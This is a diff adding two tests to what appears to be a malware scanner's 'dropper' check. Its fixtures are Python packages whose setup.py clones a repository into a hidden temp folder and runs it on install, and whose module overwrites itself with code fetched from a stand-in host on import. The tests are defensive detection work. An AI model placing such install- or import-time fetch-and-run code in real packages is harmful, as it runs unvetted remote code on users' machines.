@@ -157,3 +157,29 @@ test('an anonymous file that holds data for a child process stays silent', async
 
   expect(await inspect('dropper', file)).toEqual([]);
 });
+
+test('a clone that is entered and whose script is started is malware', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os, subprocess',
+      'from setuptools import setup',
+      "os.system('git clone https://github.com/somebody/some-tool.git /tmp/.cache-x')",
+      "os.chdir('/tmp/.cache-x')",
+      "subprocess.call(['python3', 'main.py'])",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
+});
+
+test('a module that fetches its own next version at import is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      "open(__file__, 'w').write(requests.get('https://collector.metrics.invalid/next.py').text)",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
+});
